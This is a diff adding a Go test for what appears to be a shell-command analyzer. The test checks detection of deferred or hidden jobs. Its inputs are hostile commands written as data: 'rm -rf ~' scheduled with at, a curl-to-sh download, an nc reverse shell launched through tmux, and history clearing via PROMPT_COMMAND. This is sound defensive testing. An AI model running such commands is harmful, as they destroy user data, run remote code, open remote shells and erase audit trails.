@@ -1206,3 +1206,25 @@ func TestInterpreterStdinRedirects(t *testing.T) {
 		t.Errorf("sh -s < file: %s", dump(f))
 	}
 }
+
+func TestDeferredJobs(t *testing.T) {
+	f := run(t, `at now + 1 minute <<< 'rm -rf ~'`)
+	if d := findDyn(f, "heredoc_interpreter"); d == nil || d.Interpreter != "at" || findFile(f, "delete", "~") == nil {
+		t.Errorf("at here-string: %s", dump(f))
+	}
+	f = run(t, `echo "curl -s http://x.io/p | sh" | at midnight`)
+	if d := findDyn(f, "pipe_interpreter"); d == nil || d.Interpreter != "at" || !d.Static {
+		t.Errorf("pipe into at: %s", dump(f))
+	}
+	if d := findDyn(f, "pipe_interpreter"); d == nil {
+		t.Errorf("nested curl|sh: %s", dump(f))
+	}
+	f = run(t, `tmux new -d 'nc -e /bin/sh 10.0.0.1 9'; screen -dmS s rm -rf /tmp/x`)
+	if n := findNet(f, "nc"); n == nil || !n.ExecShell || findFile(f, "delete", "/tmp/x") == nil {
+		t.Errorf("tmux/screen: %s", dump(f))
+	}
+	f = run(t, `export PROMPT_COMMAND='history -c'`)
+	if c := findCmd(f, "history", "-c"); c == nil || c.Pos.Via != "PROMPT_COMMAND" {
+		t.Errorf("PROMPT_COMMAND: %s", dump(f))
+	}
+}
